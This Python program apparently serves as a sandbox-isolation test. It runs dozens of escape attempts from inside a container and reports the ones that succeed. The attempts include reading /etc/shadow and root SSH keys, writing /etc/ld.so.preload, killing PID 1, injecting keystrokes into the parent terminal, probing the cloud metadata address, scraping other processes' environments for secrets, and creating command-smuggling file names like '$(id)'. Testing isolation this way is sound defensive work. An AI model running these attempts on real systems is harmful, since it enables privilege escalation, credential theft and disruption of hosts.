"""Many small attacks in one program: it prints the names of those that worked, as JSON.

Standard library only: it runs inside, by whatever way a program gets there. HOST is replaced by
what the test knows of the host: a port that listens there, a pid, a file, the service's port.
"""

import contextlib
import ctypes
import json
import os
import resource
import socket
import stat
import subprocess
import sys
from collections.abc import Callable
from functools import partial

HOST: dict[str, str] = {}
ONLY: list[str] = []  # all, if there is none
libc = ctypes.CDLL(None, use_errno=True)
ATTACKS: dict[str, Callable[[], object]] = {}


def attack(name: str) -> Callable[[Callable[[], object]], None]:
    def keep(function: Callable[[], object]) -> None:
        ATTACKS[name] = function

    return keep


def _call(number: int, *words: object) -> bool:
    return bool(libc.syscall(ctypes.c_long(number), *words) >= 0)


def _reads(path: str) -> bool:
    with open(path, "rb") as file:
        return bool(file.read(1))


def _writes(path: str) -> bool:
    with open(path, "wb") as file:
        return file.write(b"x") == 1


def _connects(address: tuple[str, int] | str, family: int = socket.AF_INET) -> bool:
    with socket.socket(family) as one:
        one.settimeout(0.3)
        one.connect(address)
        return True


# Files
for path in ("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/root/.bash_history",
             "/var/log/dpkg.log", "/proc/kcore", "/proc/1/mem", "/proc/1/maps", "/dev/mem",
             "/dev/kmsg", "/sys/firmware/acpi/tables/DSDT", "/run/dbus/system_bus_socket",
             "/proc/keys", "/proc/config.gz", "/proc/cmdline", "/proc/timer_list"):  # fmt: skip
    ATTACKS[f"read {path}"] = partial(_reads, path)
for path in ("/usr/bin/planted", "/etc/passwd", "/etc/ld.so.preload", "/etc/hosts",
             "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
             "/proc/sys/vm/overcommit_memory", "/proc/1/oom_score_adj", "/proc/sysrq-trigger",
             "/sys/kernel/profiling",
             "/opt/e2brun/agent/main.py", "/lib/planted", "/proc/self/uid_map",
             "/proc/sys/user/max_user_namespaces", "/proc/sys/net/ipv4/ip_forward"):  # fmt: skip
    ATTACKS[f"write {path}"] = partial(_writes, path)


@attack("read the host's file")
def _() -> bool:
    return _reads(HOST["file"])


@attack("reach the host's root by a descriptor")
def _() -> bool:
    names = os.listdir("/proc/self/fd")
    places = [f"/proc/self/fd/{name}/../../../../../../../{HOST['file']}" for name in names]
    return any(os.path.exists(place) for place in places)


@attack("reach the host's file from the first process's root")
def _() -> bool:
    return os.path.exists(f"/proc/1/root/{HOST['file']}") or os.path.exists(
        f"/proc/1/cwd/../../../{HOST['file']}"
    )


@attack("make a device")
def _() -> bool:
    os.mknod("device", stat.S_IFCHR | 0o666, os.makedev(1, 1))
    return _reads("device")


@attack("keep a set-id bit that counts")
def _() -> bool:
    with open("/usr/bin/id", "rb") as source, open("id", "wb") as copy:
        copy.write(source.read())
    os.chmod("id", 0o6755)
    said = subprocess.run(["./id"], capture_output=True, check=False).stdout
    return b"euid" in said


@attack("open a file by handle")
def _() -> bool:
    return _call(304, -100, ctypes.create_string_buffer(64), 0)


@attack("see paths of the host in the table of mounts")
def _() -> bool:
    with open("/proc/self/mountinfo") as file:
        return HOST["directory"] in file.read()


# Network
for port in (HOST.get("port", "1"), HOST.get("service", "1")):
    for host in ("127.0.0.1", "localhost", "127.1.2.3", "0.0.0.0"):
        ATTACKS[f"connect to {host}, {port}"] = partial(_connects, (host, int(port)))
for host in ("169.254.169.254", "10.0.2.2", "8.8.8.8", "192.168.1.1"):
    ATTACKS[f"connect to {host}"] = partial(_connects, (host, 80))
ATTACKS["connect to ::1"] = lambda: _connects(
    ("::1", int(HOST.get("service", "1"))), socket.AF_INET6
)
ATTACKS["connect to an abstract socket of the host"] = lambda: _connects(
    "\0" + HOST["abstract"], socket.AF_UNIX
)
ATTACKS["connect to a socket in a directory of the host"] = lambda: _connects(
    HOST["file"] + ".sock", socket.AF_UNIX
)


@attack("a raw socket")
def _() -> object:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack("a packet socket")
def _() -> object:
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)


@attack("the loopback taken down")
def _() -> bool:
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return fcntl.ioctl(one, 0x8914, b"lo".ljust(16, b"\0") + b"\0" * 24) is not None


# Processes
@attack("see a process of the host")
def _() -> bool:
    return any(HOST["process"] in _line(name) for name in os.listdir("/proc") if name.isdigit())


def _line(pid: str) -> str:
    with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline") as file:
        return file.read()
    return ""


@attack("end the first process")
def _() -> bool:
    with contextlib.suppress(OSError):
        os.kill(1, 9)
    return not os.path.exists("/proc/1")


@attack("stop the first process")
def _() -> bool:
    with contextlib.suppress(OSError):
        os.kill(1, 19)
    with open("/proc/1/stat") as file:
        return file.read().rpartition(")")[2].split()[0] == "T"


for name, number, words in (
    ("trace the first process", 101, (16, 1, 0, 0)), ("a new user namespace", 272, (0x10000000,)),
    ("a new mount namespace", 272, (0x20000,)), ("chroot", 161, (b"/tmp",)),
    ("mount", 165, (b"x", b"/tmp", b"tmpfs", 0, 0)), ("open_tree", 428, (-100, b"/", 1)),
    ("fsopen", 430, (b"tmpfs", 0)), ("a hostname", 170, (b"x", 1)), ("a module", 313, (0, b"", 0)),
    ("the clock", 227, (0, ctypes.create_string_buffer(16))), ("swapoff", 168, (b"/x",)),
    ("quota", 179, (0x800007, 0, 0, 0)), ("the log of the kernel", 103, (3, 0, 0)),
    ("memory of another", 310, (1, 0, 0, 0, 0, 0)), ("a descriptor of another", 438, (3, 0, 0)),
    ("16-bit segments", 154, (1, 0, 0)), ("a clone into a cgroup", 435, (0, 88)),
):  # fmt: skip
    ATTACKS[name] = partial(_call, number, *words)


@attack("a capability")
def _() -> bool:
    with open("/proc/self/status") as file:
        status = dict(line.split(":", 1) for line in file)
    return any(int(status[name], 16) for name in ("CapPrm", "CapEff", "CapBnd", "CapAmb"))


@attack("new privileges")
def _() -> bool:
    return bool(libc.prctl(39, 0, 0, 0, 0) != 1)


@attack("keys typed into the terminal of who started us")
def _() -> bool:
    import fcntl

    terminal = os.open("/dev/tty", os.O_RDWR)
    return fcntl.ioctl(terminal, 0x5412, b"x") is not None


# Secrets
@attack("find a secret of the caller's")
def _() -> bool:
    places = ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"]
    places += [f"/proc/{name}/environ" for name in os.listdir("/proc") if name.isdigit()]
    text = repr(dict(os.environ)).encode()
    for place in places:
        with contextlib.suppress(OSError), open(place, "rb") as file:
            text += file.read()
    return HOST["secret"].encode() in text


# Limits
for kind in ("AS", "NPROC", "NOFILE", "CORE", "FSIZE", "MEMLOCK", "SIGPENDING"):

    @attack(f"no limit of {kind}")
    def _(kind: str = kind) -> bool:
        number = getattr(resource, f"RLIMIT_{kind}", 11)
        return resource.getrlimit(number)[1] == resource.RLIM_INFINITY


@attack("names that the host would stumble over")
def _() -> bool:
    for name in ("-rf", "a\nb", "\x1b[2J", "..x", "\udcff", "x" * 255, "$(id)", "::error::x"):
        with open(name, "w") as file:
            file.write("x")
    os.symlink("/etc/passwd", "link")
    os.mkfifo("pipe")
    return False


if __name__ == "__main__":
    worked = []
    for name in ONLY or list(ATTACKS):
        function = ATTACKS[name]
        with contextlib.suppress(Exception):
            if function():
                worked.append(name)
    print(json.dumps({"tried": len(ATTACKS), "worked": worked}))
    sys.stdout.flush()
    with open("/proc/self/oom_score_adj") as file:
        print("first to go" if int(file.read()) > 0 else "not first to go")
